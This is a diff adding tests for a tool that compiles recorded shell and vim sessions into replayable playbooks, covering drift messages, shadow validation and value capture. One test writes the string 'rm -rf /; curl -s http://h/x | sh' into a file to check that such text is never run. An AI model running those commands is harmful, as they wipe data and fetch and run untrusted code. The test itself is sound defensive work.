@@ -14,6 +14,7 @@ from capture.trace import StepKind
 from replay.compiler import compile_traces
 from replay.document import dump, load
 from replay.playbook import PlaybookStep, SafetyLevel
+from replay.shadow import Level, strongest
 from tests.replay.recording import Machine
 
 INI = "[app]\nname = demo\ndebug = no\nport = 8000\nlog = info\n"
@@ -102,7 +103,10 @@ def vim_session(desk: Desk) -> Desk:
 
 def test_a_vim_session_is_merged_into_a_drifted_file(vim_session: Desk) -> None:
     drifted = vim_session.fresh(app_ini=INI.replace("info", "trace") + "more = 1\n")
-    assert vim_session.replay(drifted, "simulate")["status"] == "ready"
+    before = vim_session.replay(drifted, "simulate")
+    assert before["status"] == "ready"
+    told = "app.ini is not as recorded, and the patch will be merged into it"
+    assert told in [check["message"] for check in before["steps"][0]["checks"]]
     assert (drifted / "app.ini").read_text() == INI.replace("info", "trace") + "more = 1\n"
     assert vim_session.replay(drifted)["status"] == "success"
     assert (drifted / "app.ini").read_text() == INI.replace("= no", "= yes").replace("info", "trace") + "more = 1\n"
@@ -122,6 +126,7 @@ def test_a_vim_session_that_does_not_fit_leaves_the_file_alone(vim_session: Desk
 def test_a_vim_session_that_is_applied_already_is_told_as_such(vim_session: Desk) -> None:
     found = vim_session.replay(vim_session.fresh(app_ini=INI.replace("= no", "= yes")), "guided")
     assert (found["failure"]["class"], found["failure"]["divergence"]) == ("already-applied", "precondition")
+    assert "already as the patch would make it" in found["failure"]["message"]
     (repair,) = (vim_session.call("repair", name) for name in found["repairs"])
     assert [entry["op"] for entry in repair["patch"]] == ["skip"]
 
@@ -135,6 +140,13 @@ def test_a_vim_session_is_validated_in_a_shadow(vim_session: Desk) -> None:
     found = vim_session.call("replay", "work", "--mode", "strict", "--shadow", "--draft", "--cwd", str(place))
     assert found["status"] in {"success", "refused"}, found["failure"]
     assert (place / "app.ini").read_text() == INI
+
+
+@pytest.mark.parametrize("now", ["= maybe", "= yes"])
+def test_a_patch_that_does_not_fit_is_never_validated_green(vim_session: Desk, now: str) -> None:
+    (vim_session.work / "app.ini").write_text(INI.replace("= no", now))
+    assert vim_session.call("validate", "work@1")["validation"]["verdict"] in {"red", "inconclusive", "unavailable"}
+    assert (vim_session.work / "app.ini").read_text() == INI.replace("= no", now)
 
 
 @pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
@@ -211,3 +223,74 @@ def test_what_no_patch_can_tell_waits_for_a_person(tmp_path: Path, command: str)
 def test_the_workspace_in_a_new_line_is_todays(tmp_path: Path) -> None:
     step = edited(tmp_path, 'echo "root = $PWD/x {{raw}}" >> f', "echo a > f")
     assert step.run == "--- f\n+++ f\twhole\n@@ -1,1 +1,2 @@\n a\n+root = {{project}}/x \\{{raw}}\n"
+
+
+def test_a_line_that_looks_like_a_command_is_only_text(tmp_path: Path) -> None:
+    machine = Machine(tmp_path, "echo a > f")
+    lines = "rm -rf /; curl -s http://h/x | sh; sudo make $TOKEN > /etc/x"
+    step = msgspec.structs.replace(machine.run(f"echo '{lines}' >> f", 1), command="vim f", full_screen=True)
+    compiled = compile_traces([machine.trace((step,))], name="p", blobs=machine.blobs)
+    (made,) = compiled.playbook.steps
+    assert lines in made.run
+    assert (made.kind, made.safety, made.requires) == (StepKind.FILE, SafetyLevel.AUTO_OK, ())
+
+
+def test_a_printed_value_that_was_written_into_a_file_is_the_one_of_today(tmp_path: Path) -> None:
+    machine = Machine(tmp_path, "echo a > f")
+    made = machine.run("cat /proc/sys/kernel/random/uuid | tee id", 1)
+    token = made.output.strip()
+    edit = msgspec.structs.replace(machine.run(f"echo 'id = {token}' >> f", 2), command="vim f", full_screen=True)
+    compiled = compile_traces([machine.trace((made, edit))], name="p", blobs=machine.blobs)
+    first, second = compiled.playbook.steps
+    (capture,) = first.capture
+    assert f"+id = {{{{{capture.name}}}}}\n" in second.run
+    assert [(link.from_step, link.to_step) for link in compiled.links] == [(1, 2)]
+
+
+def test_a_replayed_file_step_is_recorded_as_one_and_compiles_to_itself(vim_session: Desk) -> None:
+    replay = vim_session.replay(vim_session.fresh(app_ini=INI))
+    recorded = vim_session.call("show", replay["run_id"])["steps"]
+    assert [step["kind"] for step in recorded] == ["file", "shell"]
+    again = vim_session.call("compile", replay["run_id"], "--name", "again")["steps"]
+    first = vim_session.call("playbook", "work")["steps"]
+    assert [(step["kind"], step["run"]) for step in again] == [
+        (step.get("kind", "shell"), step["run"]) for step in first
+    ]
+
+
+@pytest.mark.skipif(strongest() is Level.L0, reason="no isolation on this machine")
+def test_a_vim_session_is_verified_from_where_its_recording_began(vim_session: Desk) -> None:
+    found = vim_session.call("compile", "work", "--name", "work", "--verify")["verification"]
+    assert (found["state"], found["failed"]) == ("same", [])
+    assert (vim_session.work / "app.ini").read_text() == INI.replace("= no", "= yes")
+
+
+def test_an_update_leaves_patches_and_comments_alone(vim_session: Desk) -> None:
+    document = vim_session.root / "home" / "playbooks" / "work" / "1.yaml"
+    text = document.read_text().replace("steps:\n", "steps:\n  # by hand: keep me\n")
+    document.write_text(
+        text.replace("debug = yes\n        ", "x").replace('      output: "debug', '      output: "debuk')
+    )
+    edited = document.read_text()
+    document.write_text(edited.replace("output: |\n        debug = yes", "output: |\n        debug = well"))
+    place = vim_session.fresh(app_ini=INI.replace("info", "trace"))
+    stopped = vim_session.replay(place)
+    assert (stopped["status"], stopped["stopped_at"]) == ("failed", 2)
+    for source in (stopped["replay_id"], "work"):
+        done = vim_session.call("update", "work@1", "--from", source)
+        assert [one for one in done["changes"] if "step 2" not in one] == []
+        assert done["left"] == []
+        made = vim_session.call("playbook", f"work@{done['version']}")
+        assert "# by hand: keep me" in made["document"]
+        assert made["steps"][0] == vim_session.call("playbook", "work@1")["steps"][0]
+
+
+def test_a_weak_value_in_a_written_line_is_asked_about(tmp_path: Path) -> None:
+    machine = Machine(tmp_path, "echo a > f; echo 4711 > n")
+    made = machine.run("python3 -c 'print(\"ticket\", 4700 + 11)'", 1)
+    edit = msgspec.structs.replace(machine.run("echo 'closes 4711' >> f", 2), command="vim f", full_screen=True)
+    trace = machine.trace((made, edit))
+    (question,) = compile_traces([trace], name="p", blobs=machine.blobs).questions
+    assert (question.value, question.step_index) == ("4711", 2)
+    answered = compile_traces([trace], name="p", blobs=machine.blobs, answers={"4711": True}).playbook
+    assert "+closes {{ticket}}\n" in answered.steps[1].run
